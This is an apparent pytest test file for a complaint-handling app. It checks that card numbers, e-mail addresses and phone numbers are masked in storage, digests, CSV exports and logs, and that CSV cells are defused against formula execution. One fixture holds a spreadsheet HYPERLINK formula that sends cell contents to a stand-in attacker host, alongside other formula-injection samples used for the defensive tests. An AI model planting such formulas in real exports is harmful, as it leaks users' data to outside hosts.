"""Personal data shown only where it is needed. A customer posts her card number, e-mail address and phone number:
the card number is masked to its last four digits before Heard stores anything; the care team's card shows the
e-mail address and phone number (they need them to take it private), while the digest, the CSV export and the logs
mask all three; the evidence file goes privately to whoever asked for it, never into the card's public thread; and
every CSV cell a spreadsheet would run as a formula is defused."""

from __future__ import annotations

import csv
import io
import json
import logging
import threading
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
import time_machine
from sqlalchemy import select

from app import Heard
from bot import masked_logs
from bot.export import defused
from bot.observability.logs import JsonFormatter
from bot.personal_data import mask_card_numbers
from sandbox.fake_slack import FakeSlack
from sandbox.slack_driver import SlackDriver
from storage.db import Database
from storage.models import AuditEvent
from tests.care_team import CareTeam, visible_text
from tests.conftest import CHANNEL, INGEST_SECRET, SIGNING_SECRET, heard_environment
from tests.meta_desk import MetaDesk
from tests.support import HeardProcess, Ingester, stored_complaint
from tests.test_lookups import BOSS, Desk, complaint_numbers, desk, shown
from tests.test_meta_facebook import change_value, comment_on_the_page, graph, start
from tests.test_moderation import x_api
from tests.x_api import BRAND_ID, MARIA, FakeX, ModerationX, page, post

# Fixtures shared with test_lookups, test_meta_facebook and test_moderation.
__all__ = ["desk", "graph", "start", "x_api"]

CARD_NUMBER = "4111 1111 1111 1111"
E_MAIL = "maria.lopez84@example.com"
PHONE = "+358 40 123 4567"
WORDS = f"You charged my card {CARD_NUMBER} twice! Write to me at {E_MAIL} or call {PHONE}."
MASKED_CARD = "\u2022\u2022\u2022\u2022 \u2022\u2022\u2022\u2022 \u2022\u2022\u2022\u2022 1111"
MASKED_E_MAIL = "m\u2022\u2022\u2022@\u2022\u2022\u2022.com"
MASKED_PHONE = "\u2022" * 10 + "67"
# Each value in full, however it is written down: with or without its separators, URL- or JSON-encoded.
CARD_IN_FULL = ("4111 1111 1111 1111", "4111111111111111", "4111+1111", "4111%201111")
CONTACTS_IN_FULL = ("maria.lopez84", "123 4567", "1234567", "123+4567", "123%204567")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
DIGESTS = "C0MANAGERS"
SUNDAY = "Daily digest \u00b7 Sunday 22 Nov"


def holds_none(text: str, values: tuple[str, ...]) -> bool:
    return not [value for value in values if value in text]


# -- intake: no full card number is ever stored ------------------------------------------------------------------


def test_the_card_shows_e_mail_and_phone_but_no_card_number_is_stored_anywhere(
    desk: Desk, fake_slack: FakeSlack, database: Database
) -> None:
    complaint_id = desk.complain(text=WORDS, author={"handle": "maria_l", "name": "Maria López"})
    order = desk.complain(text="Order 4111 1111 1111 1112 arrived broken, call me on 040 123 4567")

    fake_slack.wait_for("chat.postMessage", count=2, where=lambda call: call.args.get("channel") == CHANNEL)
    card, other = fake_slack.messages(CHANNEL)
    on_card = visible_text(card)
    assert E_MAIL in on_card and PHONE in on_card  # the care team takes it private with these
    assert MASKED_CARD in on_card and holds_none(on_card, CARD_IN_FULL)
    assert "personal data: e-mail address, phone number, card number" in on_card  # triage read the whole post
    assert "4111 1111 1111 1112" in visible_text(other)  # an order number (no Luhn) is left as written

    complaint = stored_complaint(database, complaint_id)
    assert MASKED_CARD in complaint.text and holds_none(complaint.text, CARD_IN_FULL)
    raw = json.dumps(complaint.raw, ensure_ascii=False)
    assert MASKED_CARD in raw and holds_none(raw, CARD_IN_FULL) and E_MAIL in raw
    assert complaint.raw["id"] == complaint.external_id  # identifiers are kept as the source sent them

    # The search index holds the masked words too: the card's digits find only the order; its words still find it.
    assert complaint_numbers(desk.ask("search charged twice")) == [complaint_id]
    assert complaint_numbers(desk.ask("search 4111")) == [order]


def test_a_card_number_read_from_x_is_masked_before_it_is_filed(
    x_api: tuple[FakeX, ModerationX], start_heard: Callable[..., Heard], fake_slack: FakeSlack, database: Database
) -> None:
    feeds, _ = x_api
    feeds.answer("mentions", page([post(f"@Twitter {WORDS}", MARIA)], [MARIA]))

    heard = start_heard(X_BEARER_TOKEN="test-bearer-token", X_USER_ID=BRAND_ID, X_POLL_INTERVAL="1h")
    poller = heard.listener("x-poll")
    assert poller is not None and poller.wait_for_polls(1)

    fake_slack.wait_for("chat.postMessage", where=lambda call: call.args.get("channel") == CHANNEL)
    [card] = fake_slack.messages(CHANNEL)
    assert MASKED_CARD in visible_text(card) and E_MAIL in visible_text(card)
    complaint = stored_complaint(database, 1)
    everything = complaint.text + json.dumps(complaint.raw, ensure_ascii=False)
    assert MASKED_CARD in everything and holds_none(everything, CARD_IN_FULL)
    assert complaint.raw["post"]["author_id"] == MARIA.id  # a long id is an identifier, not a card number


def test_a_facebook_comment_and_its_edit_keep_no_card_number(start: Callable[..., MetaDesk]) -> None:
    meta = start()
    comment = comment_on_the_page(meta, "Charged twice, nobody answers")
    meta.cards(1)
    edited = meta.graph.webhook_delivery_for(comment, verb="edited")
    change_value(edited)["message"] = WORDS

    assert meta.deliver(edited).status == 200

    card = meta.team.card_shows("edited by the author")
    assert MASKED_CARD in visible_text(card) and E_MAIL in visible_text(card)
    [event] = meta.events("edited by the author")
    [complaint] = meta.complaints()
    for kept in (event.detail["after"], complaint.text, json.dumps(complaint.raw, ensure_ascii=False)):
        assert holds_none(kept, CARD_IN_FULL)
    assert MASKED_CARD in complaint.text and "card number" in complaint.personal_data  # triage read the edit


def last_four(digits: str) -> str:
    return MASKED_CARD.replace("1111", digits)


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("Visa 4111-1111-1111-1111 please refund", f"Visa {last_four('1111')} please refund"),
        ("mastercard 5555555555554444", f"mastercard {last_four('4444')}"),
        ("amex 3782 822463 10005.", f"amex {last_four('0005')}."),
        ("old visa 4222222222222", f"old visa {last_four('2222')}"),
        ("unionpay 6222 0290 0000 0000 019", f"unionpay {last_four('0019')}"),
        ("4111 1111 1111 1112 fails the Luhn check", None),
        ("order no. 4111111111111111 never came", None),
        ("call me on +358 40 123 4567 or 0888 123 456", None),
        ("see x.com/acme/status/1578516295611748353", None),
        ("tracking 1234567890123", None),
    ],
)
def test_card_numbers_are_told_from_order_and_phone_numbers(written: str, kept: str | None) -> None:
    assert mask_card_numbers(written) == (kept if kept is not None else written)


# -- what leaves the cards: the export and the digest ------------------------------------------------------------


def test_the_export_masks_personal_data_and_defuses_every_cell(desk: Desk, fake_slack: FakeSlack) -> None:
    desk.complain(text=WORDS, author={"handle": "maria_l", "name": "Maria López"})
    desk.complain(id=HYPERLINK, text=HYPERLINK, author={"handle": "-mallory", "name": "@SUM(1+1)"})

    desk.ask("export 7d", user=BOSS)

    fake_slack.wait_for("files.completeUploadExternal", timeout=10)
    [exported] = fake_slack.files()
    content = exported["content"].decode("utf-8")
    maria, mallory = csv.DictReader(io.StringIO(content))
    assert MASKED_CARD in maria["text"] and MASKED_E_MAIL in maria["text"] and MASKED_PHONE in maria["text"]
    assert holds_none(content, CARD_IN_FULL + CONTACTS_IN_FULL)
    # A spreadsheet shows these as text, never runs them.
    assert mallory["external_id"] == "'" + HYPERLINK and mallory["text"] == "'" + HYPERLINK
    assert mallory["author_handle"] == "'-mallory" and mallory["author_name"] == "'@SUM(1+1)"
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")] == []


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\tplain", "'\tplain"),
        ("\n@SUM(A1)", "'\n@SUM(A1)"),
        ("+358", "'+358"),
        ("-2", "'-2"),
        ("maria_l", "maria_l"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str, written: str) -> None:
    assert defused(cell) == written


def test_the_digest_masks_authors_named_by_e_mail_or_phone_in_the_dm_and_the_channel(
    start_heard: Callable[..., Heard], fake_slack: FakeSlack, database: Database
) -> None:
    """Some sources name their customers by e-mail address (a mailbox bridge) or phone number (a messaging app):
    the digest lists the day's breaches by author, and it goes beyond the care team's cards."""
    with time_machine.travel(datetime(2026, 11, 22, 12, 0, tzinfo=UTC), tick=True) as traveller:
        heard = start_heard(HEARD_MANAGERS=BOSS, DIGEST_CHANNEL=DIGESTS, DIGEST_AT="09:00", ACK_WINDOW="1m")
        customer = Ingester(f"http://127.0.0.1:{heard.port}/ingest", INGEST_SECRET)
        for source, handle in (("email", E_MAIL), ("whatsapp", PHONE.replace(" ", ""))):
            sent = customer.complain(
                source=source, author={"handle": handle}, text="Still no refund", created_at="2026-11-22T11:59:00Z"
            )
            assert sent.status == 202
        heard.scheduler.sweep()
        wait_for(lambda: len(breaches(database)) == 2)  # both missed the minute to acknowledge, on Sunday

        traveller.move_to(datetime(2026, 11, 23, 9, 0, 30, tzinfo=UTC))
        heard.scheduler.sweep()  # Monday's digest: Sunday's figures

        for where in (BOSS, DIGESTS):
            fake_slack.wait_for(
                "chat.postMessage",
                where=lambda call, to=where: call.args.get("channel") == to and SUNDAY in visible_text(call.args),
                timeout=15,
            )
    for digest in (sunday_digest(fake_slack.dms(BOSS)), sunday_digest(fake_slack.messages(DIGESTS))):
        assert MASKED_E_MAIL in digest and MASKED_PHONE.replace(" ", "") in digest
        assert holds_none(digest, (*CONTACTS_IN_FULL, "+358401234567"))


def sunday_digest(messages: list[dict[str, Any]]) -> str:
    [digest] = [shown(m) for m in messages if SUNDAY in shown(m)]
    return digest


def breaches(database: Database) -> list[AuditEvent]:
    with database.unit_of_work() as session:
        return list(session.scalars(select(AuditEvent).where(AuditEvent.action == "breached")))


def wait_for(condition: Callable[[], bool], timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.05)


# -- evidence goes privately ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("evidence_channel", [None, "C0EVIDENCE"], ids=["asker-dm", "evidence-channel"])
def test_evidence_of_a_hidden_comment_goes_privately_never_into_the_cards_thread(
    start_heard: Callable[..., Heard], fake_slack: FakeSlack, evidence_channel: str | None
) -> None:
    settings = {"HEARD_MANAGERS": BOSS} | ({"EVIDENCE_CHANNEL": evidence_channel} if evidence_channel else {})
    heard = start_heard(**settings)
    base = f"http://127.0.0.1:{heard.port}"
    people = CareTeam(fake_slack, SlackDriver(f"{base}/slack/events", SIGNING_SECRET, fake_slack), CHANNEL)
    Ingester(f"{base}/ingest", INGEST_SECRET).complain(id="fb-comment-7", text=WORDS)
    card = people.card()

    assert people.fill(BOSS, "Hide", {"Reason": "Other", "Note": "Personal data in public"}).field_errors() == {}
    people.card_shows("Hidden in Heard only")
    people.click(BOSS, "Keep evidence")

    fake_slack.wait_for("files.completeUploadExternal")
    [upload] = fake_slack.files()
    assert upload["channels"] == [evidence_channel or fake_slack.dm_channel(BOSS)]
    assert upload["thread_ts"] is None and upload["name"].endswith(".json")
    content = fake_slack.file(upload["id"])["content"].decode("utf-8")
    record = json.loads(content)
    assert record["complaint"]["raw"]["id"] == "fb-comment-7"  # the post as the source sent it...
    assert record["complaint"]["raw"]["text"] == {"same_as": "complaint.text"}  # ...its words said once
    assert content.count(E_MAIL) == 1 and content.count(PHONE) == 1 and holds_none(content, CARD_IN_FULL)
    assert [event["action"] for event in record["audit_trail"]] == ["received", "hidden", "evidence kept"]

    # The public thread says it was kept and sent privately, and holds nothing of it.
    people.fake.wait_for(
        "chat.postMessage",
        where=lambda call: call.args.get("thread_ts") == card["ts"] and "sent privately" in visible_text(call.args),
    )
    thread = people.thread()
    assert any("kept the evidence" in line for line in thread)
    assert holds_none("\n".join(thread), (E_MAIL, PHONE, "evidence.json", "audit_trail"))
    assert not [f for f in fake_slack.files(include_incomplete=True) if CHANNEL in f["channels"] or f["thread_ts"]]

    people.click(BOSS, "Keep evidence")  # nothing new since: no second file
    people.told(BOSS, "already sent is the complete record")
    assert len(fake_slack.files()) == 1
    assert fake_slack.problems == []


# -- logs ------------------------------------------------------------------------------------------------------------


@pytest.fixture(params=["text", "json"])
def debug_heard(
    request: pytest.FixtureRequest, fake_slack: FakeSlack, database_url: str
) -> Iterator[tuple[HeardProcess, list[str]]]:
    """`python app.py` at LOG_LEVEL=DEBUG, in each LOG_FORMAT, everything it writes to stderr collected."""
    environment = heard_environment(fake_slack, database_url, LOG_LEVEL="DEBUG", LOG_FORMAT=request.param)
    process = HeardProcess(environment)
    lines = list(process.log)
    assert process.process.stderr is not None
    reader = threading.Thread(target=lambda: lines.extend(process.process.stderr or ()), daemon=True)
    reader.start()
    yield process, lines
    process.stop()
    reader.join(10)
    process.process.stderr.close()


def as_read(line: str) -> str:
    """A log line as a person reads it: a JSON line's level, logger, message and traceback; a text line as it is."""
    try:
        entry = json.loads(line)
    except ValueError:
        return line
    return " ".join(str(entry.get(key) or "") for key in ("level", "logger", "message", "exception"))


def test_at_debug_level_no_log_line_holds_an_e_mail_phone_or_card_number(
    debug_heard: tuple[HeardProcess, list[str]], fake_slack: FakeSlack
) -> None:
    process, lines = debug_heard
    assert Ingester(f"{process.url}/ingest", INGEST_SECRET).complain(text=WORDS).status == 202
    fake_slack.wait_for("chat.postMessage", where=lambda call: call.args.get("channel") == CHANNEL)
    [card] = fake_slack.messages(CHANNEL)
    assert E_MAIL in visible_text(card)  # slack_sdk logs this body at DEBUG
    driver = SlackDriver(f"{process.url}/slack/events", SIGNING_SECRET, fake_slack)
    assert driver.click("Claim", on=card, channel=CHANNEL, user="U0ANA").status == 200
    fake_slack.wait_for("chat.update")
    process.stop()

    written, read = "".join(lines), "\n".join(as_read(line) for line in lines)
    assert "DEBUG slack_sdk" in read and MASKED_E_MAIL in read and MASKED_PHONE in read  # the bodies, masked
    for log in (written, read):
        assert holds_none(log, (*CARD_IN_FULL, *CONTACTS_IN_FULL, E_MAIL, PHONE))


def test_a_traceback_is_masked_too_in_either_format() -> None:
    """An error may quote a post; the traceback a handler writes is masked like the message."""
    for formatter in (logging.Formatter("%(levelname)s %(message)s"), JsonFormatter()):
        written = io.StringIO()
        handler = logging.StreamHandler(written)
        handler.setFormatter(formatter)
        masked_logs.install([handler])
        logger = logging.getLogger(f"heard.test.masked.{type(formatter).__name__}")
        logger.addHandler(handler)
        logger.propagate = False
        try:
            raise ValueError(f"cannot file {WORDS!r}")
        except ValueError:
            logger.exception("filing failed for %s", E_MAIL)
        logger.removeHandler(handler)

        read = as_read(written.getvalue())
        assert "filing failed for" in read and "ValueError: cannot file" in read and MASKED_CARD in read
        assert holds_none(read, (*CARD_IN_FULL, *CONTACTS_IN_FULL, E_MAIL, PHONE))
